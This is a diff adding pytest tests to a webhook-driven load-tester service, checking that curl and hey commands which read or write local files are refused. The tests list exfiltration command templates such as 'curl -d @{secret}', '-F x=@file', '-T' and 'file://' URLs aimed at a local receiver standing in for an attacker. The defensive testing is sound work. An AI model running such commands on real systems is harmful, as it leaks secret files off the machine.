@@ -388,3 +388,72 @@ def test_sigterm_stops_tasks_and_exits_cleanly(target: Target) -> None:
         "shutting down", "load tester stopped"]
     assert next(e for e in lines if e["msg"] == "shutting down")["signal"] == "SIGTERM"
     eventually(lambda: _stat(hey)[:1] in ([], ["Z"]), "hey to be stopped with the load tester")
+
+
+class Receiver:
+    """Records the bodies of requests sent to it: where a leaked file would arrive."""
+
+    def __init__(self) -> None:
+        self.bodies: list[bytes] = []
+        receiver = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def _record(self) -> None:
+                length = int(self.headers.get("Content-Length") or 0)
+                receiver.bodies.append(self.rfile.read(length))
+                self.send_response(200)
+                self.send_header("Content-Length", "0")
+                self.end_headers()
+
+            do_POST = do_PUT = _record
+
+            def log_message(self, format: str, *args: object) -> None:
+                pass
+
+        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+
+
+FILE_ARGUMENTS = {
+    "curl -d @file": ("curl -sf -d @{secret} {receiver}/", "curl option -d with"),
+    "curl -d@file": ("curl -sf -d@{secret} {receiver}/", "curl option -d with"),
+    "curl --data-binary @file": ("curl -sf --data-binary @{secret} {receiver}/", "--data-binary"),
+    "curl --data=@file": ("curl -sf --data=@{secret} {receiver}/", "curl option --data with"),
+    "curl -F field=@file": ("curl -sf -F x=@{secret} {receiver}/", "curl option -F with"),
+    "curl -T file": ("curl -sf -T {secret} {receiver}/", "curl option -T with"),
+    "curl -K config": ("curl -sf -K {secret} {receiver}/", "curl option -K with"),
+    "curl -o file": ("curl -sf -o {written} {target}/", "curl option -o with"),
+    "curl file URL": ("curl -sf file://{secret}", "curl URL"),
+    "hey -D file": ("hey -n 1 -m POST -D {secret} {receiver}/", "hey option -D with"),
+}
+
+
+@pytest.mark.parametrize(("cmd", "complaint"), FILE_ARGUMENTS.values(), ids=FILE_ARGUMENTS.keys())
+def test_allowed_programs_may_not_read_or_write_local_files(
+    start: Callable[..., LoadTesterServer], target: Target, tmp_path: Path, cmd: str, complaint: str
+) -> None:
+    server = start()
+    receiver = Receiver()
+    try:
+        secret = tmp_path / "secret"
+        secret.write_text("s3cr3t-value\n")
+        written = tmp_path / "written"
+        text = cmd.format(secret=secret, receiver=receiver.url, target=target.url, written=written)
+        status, body = call(server, "/", webhook(text, blocking="true"))
+        assert status == 403
+        assert complaint in body and "cmd tasks may not read or write local files" in body
+        assert metric(server, 'gitflagger_loadtester_tasks_refused_total{reason="not_allowed"}') == 1
+        assert metric(server, 'gitflagger_loadtester_tasks_started_total{type="cmd"}') == 0
+        assert receiver.bodies == [] and target.paths == []
+        assert not written.exists()
+    finally:
+        receiver.httpd.shutdown()
+        receiver.httpd.server_close()
+
+
+def test_the_usual_curl_check_still_runs(start: Callable[..., LoadTesterServer], target: Target) -> None:
+    server = start()
+    cmd = f"curl -s -o /dev/null -w '%{{http_code}}' {target.url}/ok"
+    assert call(server, "/", webhook(cmd, blocking="true", returnCmdOutput="true")) == (200, "200")
+    assert target.paths == ["/ok"]
